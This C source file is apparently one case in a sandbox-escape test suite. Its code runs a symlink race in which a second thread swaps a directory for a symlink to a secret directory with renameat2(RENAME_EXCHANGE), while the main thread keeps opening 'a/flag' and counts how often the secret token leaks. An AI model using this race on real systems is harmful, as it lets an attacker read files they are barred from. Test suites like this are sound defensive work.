/* R10: a sibling thread swaps $WORKDIR/a between a real directory (with a
 * harmless "flag" in it) and a symlink to the secret's directory, with
 * renameat2(RENAME_EXCHANGE), while the main thread opens "a/flag". */
#include "escape.h"
#include <sys/stat.h>

static void swap(void *unused)
{
	(void)unused;
	syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE);
}

int attack(int argc, char **argv)
{
	static struct racer r = { .bad = swap, .good = swap };
	pthread_t t;
	long w = 0, i;
	int fd;

	mkdir("a", 0755);
	fd = open("a/flag", O_CREAT | O_WRONLY, 0644);
	if (fd >= 0)
		close(fd);
	if (symlink(ARG("sdir"), "b") < 0)
		say("symlink: %s", errname(errno));
	pthread_create(&t, NULL, racer_thread, &r);
	for (i = 0; i < RACE_N; i++)
		w += open_leaks("a/flag", ARG("token"));
	racer_stop(&r);
	pthread_join(t, NULL);
	wins(w, i);
	return 0;
}
